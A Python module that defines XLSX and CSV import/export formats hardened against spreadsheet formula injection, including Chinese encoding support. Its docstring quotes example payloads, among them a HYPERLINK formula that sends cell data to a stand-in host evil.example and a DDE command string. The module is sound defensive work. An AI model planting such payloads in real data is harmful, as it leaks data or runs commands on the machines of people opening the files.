"""The two file formats staff use: XLSX and CSV, both safe to open and lossless to re-import.

Formulae. Any contact can type a title such as `=HYPERLINK("http://evil.example/?"&A2,"x")`
and staff open the export in Excel or WPS, where a live formula can leak the sheet or
run commands (DDE). import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT does not do:
it drops a leading "=" (so the title comes back changed when the file is re-imported,
and every unchanged row of that kind reads as an update), and it lets through the other
starts OWASP lists for "CSV Injection": + - @ and a leading tab or carriage return
(`@SUM(...)`, `+cmd|' /C calc'!A0` run as well). So instead:

- XLSX: every cell is written as a string cell (openpyxl data type "s"), never a
  formula ("f", which openpyxl picks for any text starting with "="). A string cell is
  text whatever it starts with, and its value is unchanged, so the round trip is exact.
- CSV has no cell types: a cell starting with = + - @ tab or CR gets a single quote in
  front (OWASP's advice; spreadsheets show it as text), and so does a cell starting
  with a quote; on import one leading quote is removed, so every value comes back as
  it was.

Import limits (size, unpacked size, rows) are in limits.py; the formats count the rows
as they read them.
"""

import csv
import io

import tablib
from import_export.formats import base_formats

from programme.spreadsheets.cells import cell_text
from programme.spreadsheets.limits import counted

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def display_width(text: str) -> int:
    """Columns a cell needs: a Chinese character is as wide as two Latin ones."""
    return sum(2 if ord(char) > 0x2E80 else 1 for char in text)


def quoted(value):
    """A CSV cell that no spreadsheet program reads as a formula."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def unquoted(value):
    return value[1:] if isinstance(value, str) and value.startswith(QUOTE) else value


def padded(row: list, width: int, empty) -> list:
    """A row as wide as the header: programs leave out empty cells at a row's end."""
    return row + [empty] * (width - len(row))


class SpreadsheetXLSX(base_formats.XLSX):
    """XLSX of text cells, columns as wide as their content (at most 60), long text
    wrapped."""

    MAX_WIDTH = 60
    zipped = True  # limits.check_archive applies

    def create_dataset(self, in_stream):
        from openpyxl import load_workbook

        workbook = load_workbook(io.BytesIO(in_stream), read_only=True, data_only=True)
        rows = workbook.active.iter_rows(values_only=True)
        dataset = tablib.Dataset()
        dataset.headers = list(next(rows, ()))
        for row in counted(rows):
            dataset.append(padded(list(row), dataset.width, None))
        workbook.close()
        return dataset

    def export_data(self, dataset, **kwargs):
        from openpyxl import load_workbook
        from openpyxl.styles import Alignment

        workbook = load_workbook(io.BytesIO(super().export_data(dataset, **kwargs)))
        sheet = workbook.active
        for column in sheet.columns:
            for cell in column:
                if cell.data_type == "f":
                    cell.data_type = "s"
            width = max(display_width(cell_text(cell.value)) for cell in column) + 2
            sheet.column_dimensions[column[0].column_letter].width = min(width, self.MAX_WIDTH)
            if width > self.MAX_WIDTH:
                for cell in column[1:]:
                    cell.alignment = Alignment(wrap_text=True, vertical="top")
        output = io.BytesIO()
        workbook.save(output)
        return output.getvalue()


class SpreadsheetCSV(base_formats.CSV):
    """CSV that Excel and WPS open in Chinese: UTF-8 with a BOM out; UTF-8 or GB18030 in.

    Read as bytes so that a file saved by Excel on a Chinese Windows (GBK) imports too.
    """

    def is_binary(self):
        return True

    def get_read_mode(self):
        return "rb"

    def create_dataset(self, in_stream, **kwargs):
        if isinstance(in_stream, bytes):
            try:
                in_stream = in_stream.decode("utf-8-sig")
            except UnicodeDecodeError:
                in_stream = in_stream.decode("gb18030")
        rows = csv.reader(io.StringIO(in_stream.lstrip("\ufeff"), newline=""))
        dataset = tablib.Dataset()
        dataset.headers = next(rows, [])
        for row in counted(row for row in rows if row):
            dataset.append(padded([unquoted(cell) for cell in row], dataset.width, ""))
        return dataset

    def export_data(self, dataset, **kwargs):
        safe = tablib.Dataset(
            *([quoted(cell) for cell in row] for row in dataset), headers=dataset.headers
        )
        return "\ufeff" + super().export_data(safe, **kwargs)


SPREADSHEET_FORMATS = (SpreadsheetXLSX, SpreadsheetCSV)
